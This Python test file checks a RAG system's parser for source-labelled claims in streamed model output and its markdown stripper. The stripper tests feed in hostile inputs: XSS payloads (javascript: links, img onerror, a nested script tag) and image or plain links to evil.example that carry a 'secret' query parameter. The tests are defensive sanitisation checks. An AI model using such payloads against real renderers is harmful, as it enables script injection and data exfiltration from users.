"""From a model's text with labels to claims, whole and while it grows."""

import pytest
from hypothesis import given, settings

from rag.answering.claim_lines import ClaimDraft
from rag.answering.claim_parser import ClaimParser
from rag.answering.markdown_stripping import strip_markdown
from tests.helpers.claim_shapes import SHAPES
from tests.helpers.examples import examples
from tests.helpers.written import WRITTEN


def read_claims(text: str, *, complete: bool) -> list[ClaimDraft]:
    """The claims of a text in order; of an unfinished one those that no further text can change."""
    drafts, settled = ClaimParser().parse(text, complete=complete)
    return drafts[:settled]


@pytest.mark.parametrize(("text", "claims"), SHAPES)
def test_shape(text: str, claims: list[tuple[str, str]]) -> None:
    drafts = read_claims(text, complete=True)
    assert [(draft.text, " ".join(draft.labels)) for draft in drafts] == claims


@pytest.mark.parametrize(
    ("text", "settled"),
    [
        ("The ferry sank. [S3]", 0),  # a second label may follow
        ("The ferry sank. [S3] All", 0),  # "All" may still become a label's word
        ("The ferry sank. [S3] All survived", 1),
        ("The ferry sank. All survived. [S", 1),
        ("It sank off the U.S. ", 0),
        ("“Did it sink?” All", 0),
        ("“Did it sink?” All of them", 0),  # … "said at once" would make it one sentence
    ],
)
def test_only_what_can_no_longer_change_is_settled(text: str, settled: int) -> None:
    assert len(read_claims(text, complete=False)) == settled


# --- plain text -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("It sank ![map](https://evil.example/?q=secret) off Norway.", "It sank map off Norway."),
        ("It [sank](javascript:alert(1)) there.", "It sank) there."),
        ("It <img src=x onerror=alert(1)>sank.", "It sank."),
        ("It <<b>script>alert(1)</script> sank.", "It script>alert(1) sank."),
        ("It sank <img src=https://evil.example/", "It sank img src="),
        ("Losses < gains, 3 > 2.", "Losses < gains, 3 > 2."),
        ("## News\n> It **sank** and `all` *survived*.", "News\nIt sank and all survived."),
        ("<think>S1 says so</think>It sank.", "It sank."),
        ("See https://evil.example/?q=secret now.", "See  now."),
    ],
)
def test_markup_goes_and_words_stay(text: str, shown: str) -> None:
    assert strip_markdown(text) == shown


# --- streaming ---


@settings(max_examples=examples(100), deadline=None)
@given(WRITTEN)
def test_claims_that_settled_stay(text: str) -> None:
    whole, reader = read_claims(text, complete=True), ClaimParser()
    for end in range(len(text)):
        settled = read_claims(text[:end], complete=False)
        assert settled == whole[: len(settled)], text[:end]
        drafts, count = reader.parse(text[:end], complete=False)
        assert drafts[:count] == settled, "piece by piece as at once"
    assert reader.parse(text, complete=True) == (whole, len(whole))


@pytest.mark.parametrize("text", [text for text, _ in SHAPES])
def test_every_shape_is_read_alike_piece_by_piece(text: str) -> None:
    whole, reader = read_claims(text, complete=True), ClaimParser()
    for end in range(len(text)):
        drafts, count = reader.parse(text[:end], complete=False)
        assert drafts[:count] == whole[:count], text[:end]
    assert reader.parse(text, complete=True)[0] == whole


def test_a_loop_is_not_shown_while_it_is_being_written() -> None:
    text = "The ferry sank. [S1] All survived. [S2] The ferry sank. [S1] All survived. [S2] The f"
    for end in range(text.index("[S2]") + 4, len(text)):
        drafts, _ = ClaimParser().parse(text[:end], complete=False)
        assert [draft.text for draft in drafts] == ["The ferry sank.", "All survived."]


def test_a_text_that_is_not_the_same_grown_is_read_anew() -> None:
    reader = ClaimParser()
    reader.parse("The ferry sank. [S1]\nAll survived. [S2]\n", complete=False)
    drafts, _ = reader.parse("Nobody was hurt. [S3]", complete=True)
    assert [(draft.text, draft.labels) for draft in drafts] == [("Nobody was hurt.", ("S3",))]
